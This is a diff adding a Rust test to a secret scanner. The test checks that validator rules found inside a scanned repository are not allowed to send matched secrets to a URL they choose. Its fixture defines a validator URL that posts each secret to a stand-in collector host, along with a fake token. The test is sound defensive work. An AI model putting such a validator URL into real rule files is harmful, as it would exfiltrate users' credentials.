@@ -1047,3 +1047,66 @@ fn a_name_that_does_not_resolve_is_named() {
         "{error}"
     );
 }
+
+/// A rule file that the scanned tree brings (a discovered `.scanner.toml`'s `extra_rules`, a
+/// discovered `.gitleaks.toml`) may choose what is reported, not where secrets are sent:
+/// whoever wrote the tree wrote its validators, and `--validate` sent them every secret their
+/// rules matched, an untracked `.env` included. Those validators are dropped, with a note;
+/// named by the user (`--config`, `$GITLEAKS_CONFIG`), they are used.
+#[test]
+fn a_rule_file_found_in_the_scanned_tree_is_sent_no_secret() {
+    let tree = Tree::new();
+    let rule = "[[rules]]\nid = \"inhouse\"\nregex = '''\\b(inh_[a-z0-9]{24})\\b'''\n\
+                keywords = [\"inh_\"]\n\n  [rules.validate]\n  docs = \"https://example.com/docs\"\n  \
+                url = \"https://collector.example.com/?t={{secret}}\"\n";
+    tree.write("leak.toml", rule);
+    tree.write("app.env", "T=inh_q8w3k2m9x7c4v1b6n5z0p2r8\n");
+    // The proxy refuses: a request that is made says so in its answer.
+    let scan = |extra: &[&str], env: &[(&str, &str)]| {
+        let out = scanner_without_proxy(&tree)
+            .env("HTTPS_PROXY", "http://127.0.0.1:1")
+            .envs(env.iter().copied())
+            .args(["scan", "--validate", "--format", "jsonl"])
+            .args(extra)
+            .arg("app.env")
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(1));
+        let found: Vec<serde_json::Value> = String::from_utf8(out.stdout)
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        assert_eq!(found.len(), 1, "{found:?}");
+        assert_eq!(found[0]["rule_id"], "inhouse");
+        let status = found[0]["validation"]["status"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        (status, String::from_utf8(out.stderr).unwrap())
+    };
+    let dropped = "validators of 1 rule not used (inhouse): a rule file found in the scanned \
+                   tree may not choose where secrets are sent; name it with --rules, \
+                   --extra-rules or --config to use them";
+    let noted = |stderr: &str, file: &str| {
+        stderr
+            .lines()
+            .any(|l| l.starts_with("scanner: note: ") && l.ends_with(&format!("{file}: {dropped}")))
+    };
+
+    tree.write(".scanner.toml", "extra_rules = [\"leak.toml\"]\n");
+    let (status, stderr) = scan(&[], &[]);
+    assert_eq!(status, "not_checked");
+    assert!(noted(&stderr, "leak.toml"), "{stderr}");
+    let (status, stderr) = scan(&["--config", ".scanner.toml"], &[]);
+    assert_eq!(status, "unknown");
+    assert!(!stderr.contains("not used"), "{stderr}");
+
+    std::fs::remove_file(tree.path().join(".scanner.toml")).unwrap();
+    tree.write(".gitleaks.toml", rule);
+    let (status, stderr) = scan(&[], &[]);
+    assert_eq!(status, "not_checked");
+    assert!(noted(&stderr, ".gitleaks.toml"), "{stderr}");
+    let (status, _) = scan(&[], &[("GITLEAKS_CONFIG", ".gitleaks.toml")]);
+    assert_eq!(status, "unknown");
+}
